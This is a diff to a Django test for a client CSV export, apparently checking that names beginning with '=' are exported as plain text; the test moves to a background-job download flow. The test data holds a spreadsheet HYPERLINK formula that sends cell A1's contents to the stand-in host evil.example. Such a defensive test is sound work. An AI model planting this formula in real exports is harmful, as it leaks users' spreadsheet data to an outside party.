@@ -3,6 +3,7 @@
 import csv
 import io
 
+from django.test import override_settings
 from django.urls import reverse
 
 from anxin.workspace.testing.cases import PersonaTestCase
@@ -11,12 +12,15 @@ from anxin.workspace.testing.personas import make_client
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
 
 
+@override_settings(TASKS={"default": {
+    "BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}})
 class ClientExportFormulaTest(PersonaTestCase):
     def rows(self):
         self.client.force_login(self.p.admin_a)
-        response = self.client.get(reverse("clients:export"))
+        job = self.client.post(reverse("clients:export"), follow=True).context["job"]
+        response = self.client.get(reverse("jobs:download", args=[job.pk]))
         self.assertEqual(response.status_code, 200)
-        text = response.content.decode("utf-8-sig")
+        text = b"".join(response.streaming_content).decode("utf-8-sig")
         return list(csv.reader(io.StringIO(text)))
 
     def test_a_name_starting_with_equals_is_exported_as_text(self):
